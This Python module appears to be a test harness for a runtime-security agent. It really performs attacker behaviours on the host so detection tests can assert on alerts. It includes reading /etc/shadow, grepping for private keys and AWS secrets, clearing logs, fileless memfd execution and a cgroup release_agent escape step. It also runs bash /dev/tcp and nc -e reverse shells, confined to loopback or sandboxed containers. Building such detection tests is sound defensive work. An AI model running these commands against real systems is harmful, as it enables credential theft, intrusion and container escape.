"""Real attacker behaviours, done for real on this host, for detection tests to assert on.

Each trigger performs one act (a process reads /etc/shadow, a container opens a packet
socket, ssh connects out on port 4444 ...) with real processes, files and podman
containers, and returns an :class:`Act`: the unique marker it put in the command line or
path, the command it ran, the container it ran in, and what came back. Tests start the
agent, call a trigger, and match the alert by the marker.

Nothing leaves the machine: network acts use 127.0.0.1 inside a ``--network none``
container, or a TEST-NET-1 address (192.0.2.0/24, RFC 5737) on the loopback of a network
namespace the trigger creates. Everything a trigger makes (files, containers, namespaces,
an /etc/hosts line) is registered in a :class:`Cleanup` and undone, last made first
removed (the idea of pyroute2's fixture cleanup registry).

Some rules key on a process *name* only (``proc.name in (nginx, ...)``, ``proc.aname=sshd``).
Where the real server is not installed, :func:`named` makes a symlink with that name to a
real interpreter: the kernel names the task after the file it was exec'd by (the comm is
the basename of the exec'd path), which is exactly what the rule sees for the real server.
"""

from __future__ import annotations

import os
import secrets
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

IMAGE = os.environ.get("ANDON_TEST_IMAGE", "localhost/andon-test:bookworm")
PODMAN_RUN = [
    "run", "--rm", "--runtime", "runc", "--ulimit", "nofile=4096:4096", "--ulimit", "nproc=4096:4096",
]  # fmt: skip
PYTHON = os.path.realpath(sys.executable)  # a real interpreter file (the venv's is a symlink chain)
TEST_NET = "192.0.2"  # RFC 5737 documentation range: routable nowhere, neither private nor loopback


def new_marker() -> str:
    """13 characters: short enough to be a whole process name (the kernel keeps 15)."""
    return "andon" + secrets.token_hex(4)


# -- cleanup -------------------------------------------------------------------------------
class Cleanup:
    """Undo steps, run last-in first-out; every step runs even if an earlier one fails."""

    def __init__(self) -> None:
        self._steps: list[tuple[str, Callable[[], Any]]] = []

    def push(self, what: str, undo: Callable[[], Any]) -> None:
        self._steps.append((what, undo))

    def close(self) -> None:
        errors = []
        while self._steps:
            what, undo = self._steps.pop()
            try:
                undo()
            except Exception as e:  # noqa: BLE001 - keep undoing, report at the end
                errors.append(f"{what}: {e!r}")
        if errors:
            raise AssertionError("cleanup failed:\n" + "\n".join(errors))

    def __enter__(self) -> Cleanup:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def tmpdir(cleanup: Cleanup, marker: str, under: str = "/tmp") -> Path:
    d = Path(tempfile.mkdtemp(prefix=f"{marker}-", dir=under))  # mode 0700
    cleanup.push(f"rm -r {d}", lambda: shutil.rmtree(d, ignore_errors=True))
    return d


def run(argv: list[str], *, timeout: float = 30, check: bool = True, **kw: Any) -> subprocess.CompletedProcess[str]:
    r = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, **kw)
    if check and r.returncode != 0:
        raise AssertionError(f"{argv} exited {r.returncode}: {r.stderr.strip()[-1500:]}")
    return r


def named(cleanup: Cleanup, marker: str, name: str, target: str = PYTHON) -> Path:
    """A path ``…/name`` that runs ``target``: exec'd through it, the task's name is ``name``."""
    link = tmpdir(cleanup, marker) / name
    link.symlink_to(target)
    return link


@dataclass(frozen=True)
class Act:
    """What a trigger did: ``marker`` is in the command line (or the path) of the acting process."""

    marker: str
    argv: tuple[str, ...]
    container_id: str = "host"  # 12 hex characters inside a container, as Falco's container.id
    path: str = ""  # the file acted on, as the kernel resolved it
    raw: str = ""  # the path as the process passed it
    out: str = ""  # what the act printed: proof that it really happened
    extra: dict[str, Any] = field(default_factory=dict)


# -- containers and network namespaces -------------------------------------------------------
@dataclass(frozen=True)
class Container:
    name: str
    id: str  # 64 hex
    out: str
    rc: int

    @property
    def short(self) -> str:
        return self.id[:12]


class Podman:
    """``podman run`` with the sandbox's settings; every container is removed at cleanup."""

    def __init__(self, cleanup: Cleanup, image: str = IMAGE) -> None:
        self.cleanup = cleanup
        self.image = image

    def run(self, *opts: str, cmd: list[str], detach: bool = False, network: str = "none",
            timeout: float = 90) -> Container:  # fmt: skip
        name = f"andon-t-{secrets.token_hex(4)}"
        cidfile = Path(tempfile.mkdtemp(prefix="andon-cid-")) / "cid"
        self.cleanup.push(f"podman rm {name}", lambda: self._remove(name, cidfile))
        argv = ["podman", *PODMAN_RUN, "--network", network, "--name", name, "--cidfile", str(cidfile),
                *(["-d"] if detach else []), *opts, self.image, *cmd]  # fmt: skip
        r = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL)
        cid = cidfile.read_text().strip() if cidfile.exists() else ""
        if len(cid) != 64:
            raise AssertionError(f"{' '.join(argv)} made no container ({r.returncode}): {r.stderr.strip()[-1500:]}")
        return Container(name, cid, r.stdout + r.stderr, r.returncode)

    def exec(self, name: str, *cmd: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
        return run(["podman", "exec", name, *cmd], timeout=timeout, check=False)

    @staticmethod
    def _remove(name: str, cidfile: Path) -> None:
        subprocess.run(["podman", "rm", "-f", "-t", "0", name], capture_output=True, timeout=120)
        shutil.rmtree(cidfile.parent, ignore_errors=True)


def netns(cleanup: Cleanup, marker: str, addr: str) -> str:
    """A new network namespace with only its loopback, up, carrying ``addr`` (a /32)."""
    ns = f"andon-{marker[-8:]}"
    run(["ip", "netns", "add", ns])
    cleanup.push(f"ip netns del {ns}", lambda: run(["ip", "netns", "del", ns]))
    run(["ip", "-n", ns, "link", "set", "lo", "up"])
    run(["ip", "-n", ns, "addr", "add", f"{addr}/32", "dev", "lo"])
    return ns


def hosts_entry(cleanup: Cleanup, marker: str, name: str, ip: str) -> None:
    """Add ``ip name`` to this machine's /etc/hosts until cleanup (the line carries the marker)."""
    line = f"{ip} {name} # {marker}\n"
    hosts = Path("/etc/hosts")
    with hosts.open("a") as f:
        f.write(line)

    def remove() -> None:
        hosts.write_text("".join(x for x in hosts.read_text().splitlines(True) if marker not in x))

    cleanup.push(f"/etc/hosts line {marker}", remove)


# perl is in the minbase image (perl-base), python is not: small socket programs are perl.
# AF_INET=2 SOCK_STREAM=1 SOL_SOCKET=1 SO_REUSEADDR=2; sockaddr_in packed by hand (no Socket.pm).
PERL_LISTEN = (
    'socket(S,2,1,0) or die "socket: $!"; setsockopt(S,1,2,pack("l",1)); '
    'bind(S,pack("SnC4x8",2,$ARGV[0],127,0,0,1)) or die "bind: $!"; listen(S,1) or die "listen: $!"; '
    'open(R,">","/tmp/listening"); close(R); accept(C,S) or die "accept: $!"; '
    'syswrite(C,$ARGV[1]) if defined $ARGV[1]; while(<C>){print}'
)
# wait (20 s at most) for the perl listener above to be listening: on a busy machine perl can take
# over 2 s to start in a new container, and a shell that connects before it is refused
WAIT_LISTEN = "for i in $(seq 400); do [ -e /tmp/listening ] && break; sleep 0.05; done"


# -- file acts -------------------------------------------------------------------------------
def read_via_traversal(cleanup: Cleanup) -> Act:
    """``cat`` opens /etc/hostname through ``<tmp>/a/b/../../../../etc/hostname``.

    Started straight from Python: the rule ignores opens whose parent is a shell."""
    m = new_marker()
    d = tmpdir(cleanup, m)
    (d / "a" / "b").mkdir(parents=True)
    depth = len(Path(d, "a", "b").parts) - 1  # one ".." per component below /
    raw = str(d / "a" / "b") + "/.." * depth + "/etc/hostname"
    argv = ["cat", raw]
    r = run(argv)
    return Act(m, tuple(argv), path="/etc/hostname", raw=raw, out=r.stdout)


def read_sensitive_file(cleanup: Cleanup, path: str = "/etc/shadow") -> Act:
    """``cat /etc/shadow <marker file>``: an ordinary program reads a credentials file."""
    m = new_marker()
    f = tmpdir(cleanup, m) / "x"
    f.write_text("")
    argv = ["cat", path, str(f)]
    r = run(argv)
    return Act(m, tuple(argv), path=path, out=str(len(r.stdout)))


def server_reads_sensitive_file_after_startup(cleanup: Cleanup, server: str = "nginx", after: float = 6.0,
                                              path: str = "/etc/shadow") -> Act:  # fmt: skip
    """A long-running process named like a web server opens /etc/shadow ``after`` seconds after it
    started (the rule wants it older than 5 s: trusted programs may read it only at start-up)."""
    m = new_marker()
    exe = named(cleanup, m, server)
    script = f"import sys, time\ntime.sleep({after})\nprint(len(open({path!r}).read()))\n"
    argv = [str(exe), "-c", script, m]
    r = run(argv, timeout=after + 30)
    return Act(m, tuple(argv), path=path, out=r.stdout, extra={"server": server})


def server_spawns_shell(cleanup: Cleanup, server: str = "nginx") -> Act:
    """A process named like a web server runs ``sh -c 'echo <marker>'`` (a web shell / RCE)."""
    m = new_marker()
    exe = named(cleanup, m, server)
    script = "import subprocess, sys\nsubprocess.run(['sh', '-c', 'echo ' + sys.argv[1]], check=True)\n"
    argv = [str(exe), "-c", script, m]
    r = run(argv)
    return Act(m, ("sh", "-c", f"echo {m}"), out=r.stdout, extra={"server": server, "server_argv": argv})


def system_user_in_ssh_session(cleanup: Cleanup, user: str = "nobody", uid: int = 65534) -> Act:
    """Below a process named sshd, the system user ``nobody`` runs ``echo <marker>``."""
    m = new_marker()
    sshd = named(cleanup, m, "sshd")
    inner = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "/bin/echo", m]
    script = f"import subprocess\nsubprocess.run({inner!r}, check=True)\n"
    r = run([str(sshd), "-c", script])
    return Act(m, ("/bin/echo", m), out=r.stdout, extra={"user": user, "uid": uid})


def clear_log(cleanup: Cleanup, name: str = "auth.log") -> Act:
    """``cp /dev/null <tmp>/auth.log``: the log file is truncated on open (O_TRUNC)."""
    m = new_marker()
    log = tmpdir(cleanup, m) / name
    with log.open("a") as f:  # not "w": O_TRUNC here would itself be a log clearing
        f.write("Nov 21 sshd[1]: Accepted password for root from 127.0.0.1\n")
    argv = ["cp", "/dev/null", str(log)]
    run(argv)
    assert log.stat().st_size == 0
    return Act(m, tuple(argv), path=str(log))


def shred_file(cleanup: Cleanup) -> Act:
    """``shred -u`` overwrites and removes a file."""
    m = new_marker()
    f = tmpdir(cleanup, m) / "data.bin"
    f.write_bytes(os.urandom(4096))
    argv = ["shred", "-n", "1", "-u", str(f)]
    run(argv)
    assert not f.exists()
    return Act(m, tuple(argv), path=str(f))


def symlink_over(cleanup: Cleanup, target: str = "/etc/shadow") -> Act:
    """``ln -s /etc/shadow <tmp>/link``."""
    m = new_marker()
    link = tmpdir(cleanup, m) / "link"
    argv = ["ln", "-s", target, str(link)]
    run(argv)
    assert os.readlink(link) == target
    return Act(m, tuple(argv), path=str(link), raw=target)


def hardlink_over(cleanup: Cleanup, target: str = "/etc/shadow") -> Act:
    """``ln /etc/shadow <tmp>/hard``: a second name for the file (same filesystem; the 0700
    directory and the file's own 0640 keep it as private as the original; removed at cleanup)."""
    m = new_marker()
    link = tmpdir(cleanup, m) / "hard"
    argv = ["ln", target, str(link)]
    r = run(argv, check=False)
    return Act(m, tuple(argv), path=str(link), raw=target, extra={"rc": r.returncode})


def grep_private_keys(cleanup: Cleanup) -> Act:
    """``grep -rl "BEGIN RSA PRIVATE" <tmp>``."""
    m = new_marker()
    d = tmpdir(cleanup, m)
    (d / "id_rsa").write_text("-----BEGIN RSA PRIVATE KEY-----\nnot-a-key\n-----END RSA PRIVATE KEY-----\n")
    argv = ["grep", "-rl", "BEGIN RSA PRIVATE", str(d)]
    r = run(argv)
    return Act(m, tuple(argv), out=r.stdout)


def find_aws_credentials(cleanup: Cleanup) -> Act:
    """``find <tmp> -path '*/.aws/credentials'``."""
    m = new_marker()
    d = tmpdir(cleanup, m)
    (d / "home" / ".aws").mkdir(parents=True)
    (d / "home" / ".aws" / "credentials").write_text("[default]\naws_access_key_id = AKIAEXAMPLE\n")
    argv = ["find", str(d), "-path", "*/.aws/credentials"]
    r = run(argv)
    return Act(m, tuple(argv), out=r.stdout)


def grep_aws_credentials(cleanup: Cleanup) -> Act:
    """``grep -r aws_secret_access_key <tmp>``."""
    m = new_marker()
    d = tmpdir(cleanup, m)
    (d / "credentials").write_text("[default]\naws_secret_access_key = not-a-secret\n")
    argv = ["grep", "-r", "aws_secret_access_key", str(d)]
    r = run(argv)
    return Act(m, tuple(argv), out=r.stdout)


# -- process acts ----------------------------------------------------------------------------
_PTRACE = (
    "import ctypes, os, subprocess, sys\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\n"
)


def ptrace_attach(cleanup: Cleanup) -> Act:
    """A process PTRACE_ATTACHes to a ``sleep`` child of its own, then detaches and kills it."""
    m = new_marker()
    script = _PTRACE + (
        "child = subprocess.Popen(['sleep', '30'])\n"
        "r = libc.ptrace(16, child.pid, None, None)  # PTRACE_ATTACH\n"
        "os.waitpid(child.pid, 0)  # the attach stop\n"
        "libc.ptrace(17, child.pid, None, None)  # PTRACE_DETACH\n"
        "child.kill(); child.wait()\n"
        "print('attach', r, ctypes.get_errno())\n"
    )
    argv = [PYTHON, "-c", script, m]
    r = run(argv)
    assert r.stdout.startswith("attach 0 "), r.stdout
    return Act(m, tuple(argv), out=r.stdout)


def ptrace_traceme() -> Act:
    """A process calls ptrace(PTRACE_TRACEME): the classic anti-debugging check. It does not exec
    nor take signals afterwards, so its tracer (its parent) never has to act."""
    m = new_marker()
    script = _PTRACE + "print('traceme', libc.ptrace(0, 0, None, None))  # PTRACE_TRACEME\n"
    argv = [PYTHON, "-c", script, m]
    r = run(argv)
    assert r.stdout.strip() == "traceme 0", r.stdout
    return Act(m, tuple(argv), out=r.stdout)


def exec_from_dev_shm(cleanup: Cleanup) -> Act:
    """Copy /bin/echo to /dev/shm/<marker>-…/echo and run it."""
    m = new_marker()
    exe = tmpdir(cleanup, m, under="/dev/shm") / "echo"
    shutil.copy2("/bin/echo", exe)
    argv = [str(exe), m]
    r = run(argv)
    assert r.stdout.strip() == m
    return Act(m, tuple(argv), path=str(exe), out=r.stdout)


def fileless_exec() -> Act:
    """Copy /bin/echo into a memfd and exec it through /proc/self/fd/N: nothing on disk."""
    m = new_marker()
    script = (
        "import os, sys\n"
        "fd = os.memfd_create(sys.argv[1], 0)  # no MFD_CLOEXEC: the fd must live through the exec\n"
        "os.write(fd, open('/bin/echo', 'rb').read())\n"
        "os.execv(f'/proc/self/fd/{fd}', ['echo', sys.argv[1]])\n"
    )
    argv = [PYTHON, "-c", script, m]
    r = run(argv)
    assert r.stdout.strip() == m
    return Act(m, ("echo", m), out=r.stdout)


def ssh_to_port(cleanup: Cleanup, port: int = 4444) -> Act:
    """``ssh -p 4444 <marker>@192.0.2.x``, inside a new network namespace where that address is
    on the loopback and a listener answers with an SSH banner. No packet leaves the namespace."""
    m = new_marker()
    ip = f"{TEST_NET}.{secrets.randbelow(200) + 20}"
    ns = netns(cleanup, m, ip)
    listener = subprocess.Popen(
        ["ip", "netns", "exec", ns, PYTHON, "-c",
         "import socket, sys\n"
         "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
         f"s.bind(({ip!r}, {port})); s.listen(1); print('ready', flush=True)\n"
         "s.settimeout(20); c, _ = s.accept(); c.sendall(b'SSH-2.0-andon\\r\\n'); c.recv(256); c.close()\n"],
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    cleanup.push("kill listener", lambda: (listener.kill(), listener.wait()))
    assert listener.stdout is not None and listener.stdout.readline().strip() == "ready"
    argv = ["ssh", "-p", str(port), "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-F", "/dev/null", f"{m}@{ip}", "true"]  # fmt: skip
    r = run(["ip", "netns", "exec", ns, *argv], check=False, timeout=30)
    return Act(m, tuple(argv), out=r.stdout + r.stderr, extra={"ip": ip, "port": port, "netns": ns})


# -- container acts --------------------------------------------------------------------------
def terminal_shell_in_container(podman: Podman) -> Act:
    """``podman run -t … bash -c ': <marker>; tty'``: a shell as the container's entrypoint, on a tty."""
    m = new_marker()
    cmd = ["bash", "-c", f": {m}; tty"]
    c = podman.run("-t", cmd=cmd)
    assert c.rc == 0 and "/dev/pts/" in c.out, c.out
    return Act(m, tuple(cmd), container_id=c.short, out=c.out)


def reverse_shell_in_container(podman: Podman, port: int = 4444) -> Act:
    """``bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`` in a container, to a listener in the same
    container (``--network none``: its own loopback only). The listener sends the shell
    ``echo <marker>-ok; exit`` and prints what comes back."""
    m = new_marker()
    shell = f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {m}'"
    script = (
        f"perl -e '{PERL_LISTEN}' {port} 'echo {m}-ok; exit\n' & {WAIT_LISTEN}; "
        f"{shell}; wait"
    )
    c = podman.run(cmd=["bash", "-c", script])
    assert f"{m}-ok" in c.out, c.out
    return Act(m, ("bash", "-c", shell), container_id=c.short, out=c.out)


def netcat_shell_in_container(podman: Podman, nc: str, port: int = 4444) -> Act:
    """``nc 127.0.0.1 4444 -e /bin/sh`` in a container (netcat-traditional, bind-mounted read-only
    from the host at /opt/<marker>/nc), to an ``nc -l`` in the same container that sends
    ``echo <marker>-ok; exit``. The marker is in the executable's path, not in the command line."""
    m = new_marker()
    nc_in = f"/opt/{m}/nc"
    # the client retries until the listener is up; a refused nc exits without exec'ing the shell
    script = (
        f"printf 'echo {m}-ok\\nexit\\n' | {nc_in} -l -p {port} -q 5 & "
        f"for i in $(seq 400); do {nc_in} 127.0.0.1 {port} -e /bin/sh 2>/dev/null && break; sleep 0.05; done; wait"
    )
    c = podman.run("-v", f"{nc}:{nc_in}:ro", cmd=["bash", "-c", script])
    assert f"{m}-ok" in c.out, c.out
    return Act(m, (nc_in, "127.0.0.1", str(port), "-e", "/bin/sh"), container_id=c.short, path=nc_in, out=c.out)


def packet_socket_in_container(podman: Podman) -> Act:
    """``socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))`` in a container given CAP_NET_RAW."""
    m = new_marker()
    cmd = ["perl", "-e", 'socket(S,17,3,768) or die "socket: $!"; print "packet-ok\\n"', m]
    c = podman.run("--cap-add", "NET_RAW", cmd=cmd)
    assert "packet-ok" in c.out, c.out
    return Act(m, tuple(cmd), container_id=c.short, out=c.out)


def kernel_module_in_container(podman: Podman) -> Act:
    """init_module(2) from a container with CAP_SYS_MODULE, with 64 zero bytes as the image: the
    kernel refuses it (ENOEXEC, or ENOSYS where modules are not built in) and loads nothing."""
    m = new_marker()
    cmd = ["perl", "-e", 'my $img = "\\0" x 64; my $p = "\\0"; my $r = syscall(175, $img, 64, $p); '
           'print "init_module=$r errno=", $! + 0, "\\n"', m]  # fmt: skip
    c = podman.run("--cap-add", "SYS_MODULE", cmd=cmd)
    assert "init_module=-1" in c.out, c.out
    return Act(m, tuple(cmd), container_id=c.short, out=c.out)


def debugfs_in_privileged_container(podman: Podman, settle: float = 2.0) -> Act:
    """``debugfs`` run by ``podman exec`` in a ``--privileged`` container started ``settle``
    seconds earlier (so the agent's background runtime lookup has its privileged flag)."""
    m = new_marker()
    c = podman.run("--privileged", cmd=["sleep", "120"], detach=True)
    time.sleep(settle)
    cmd = ["debugfs", "-R", f"stat /{m}", "/dev/null"]
    r = podman.exec(c.name, *cmd)
    return Act(m, tuple(cmd), container_id=c.short, out=r.stdout + r.stderr)


def release_agent_in_container(podman: Podman) -> Act:
    """In a ``--privileged`` container: mount a new, empty, named cgroup v1 hierarchy (a
    ``none,name=`` hierarchy binds no controller, so nothing on the host changes) and open its
    ``release_agent`` for writing, as the escape does, writing nothing; then unmount it (the
    hierarchy goes away with its last mount)."""
    m = new_marker()
    d = f"/tmp/cg-{m}"
    script = (f"mkdir -p {d} && mount -t cgroup -o none,name={m} cgroup {d} && "
              f": >> {d}/release_agent; echo open=$?; umount {d}")  # fmt: skip
    c = podman.run("--privileged", cmd=["bash", "-c", script])
    assert "open=0" in c.out, c.out
    return Act(m, ("bash", "-c", script), container_id=c.short, path=f"{d}/release_agent", out=c.out)


def drop_and_exec_in_container(podman: Podman) -> Act:
    """``cp /bin/echo /tmp/<marker>; /tmp/<marker> …`` in a container: the binary is on the
    overlay's upper layer (written after the container started), not in the image."""
    m = new_marker()
    script = f"cp /bin/echo /tmp/{m} && /tmp/{m} {m}-ok"
    c = podman.run(cmd=["bash", "-c", script])
    assert f"{m}-ok" in c.out, c.out
    return Act(m, (f"/tmp/{m}", f"{m}-ok"), container_id=c.short, path=f"/tmp/{m}", out=c.out)


K8S_API_NAME = "kubernetes.default.svc.cluster.local"


def contact_k8s_api_in_container(podman: Podman, port: int = 443) -> Act:
    """A container connects to ``kubernetes.default.svc.cluster.local:443``. The caller maps the
    name (``--add-host`` here; the agent's host needs it too, see :func:`hosts_entry`) to
    127.0.0.1, where a listener in the container's own loopback answers."""
    m = new_marker()
    client = f"exec 3<>/dev/tcp/{K8S_API_NAME}/{port}; echo GET /api {m} >&3"
    script = f"perl -e '{PERL_LISTEN}' {port} & {WAIT_LISTEN}; bash -c '{client}'; wait"
    c = podman.run("--add-host", f"{K8S_API_NAME}:127.0.0.1", cmd=["bash", "-c", script])
    assert f"GET /api {m}" in c.out, c.out
    return Act(m, ("bash", "-c", client), container_id=c.short, out=c.out)
